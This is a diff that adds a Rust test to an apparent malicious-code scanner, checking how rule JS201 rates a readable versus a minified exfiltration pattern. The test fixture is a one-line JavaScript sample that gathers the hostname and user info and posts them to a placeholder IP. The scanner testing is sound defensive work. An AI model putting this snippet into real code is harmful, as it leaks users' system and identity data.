@@ -167,3 +167,37 @@ fn hostile_input_does_not_panic() {
         });
     }
 }
+
+#[test]
+fn minified_bundles_cap_label_flows() {
+    // The same recon → network flow, once readable and once as a one-line
+    // bundle: the bundle's finding is reported but cannot decide alone.
+    let body = "var o=require('os'),h=require('https');var d=JSON.stringify({a:o.hostname(),b:o.userInfo()});h.request({host:'192.0.2.1'}).end(d);";
+    let readable = javascript::check(&SourceFile {
+        path: "a.js",
+        text: body,
+        role: FileRole::Library,
+    });
+    let bundle = format!("{};{body}", "var x=1".repeat(3000));
+    let minified = javascript::check(&SourceFile {
+        path: "a.js",
+        text: &bundle,
+        role: FileRole::Library,
+    });
+    let sev = |v: &[sluice_model::Finding]| {
+        v.iter()
+            .find(|f| f.rule.as_str() == "JS201")
+            .map(|f| (f.severity, f.confidence))
+    };
+    assert_eq!(
+        sev(&readable),
+        Some((sluice_model::Severity::High, sluice_model::Confidence::High))
+    );
+    assert_eq!(
+        sev(&minified),
+        Some((
+            sluice_model::Severity::Medium,
+            sluice_model::Confidence::Low
+        ))
+    );
+}
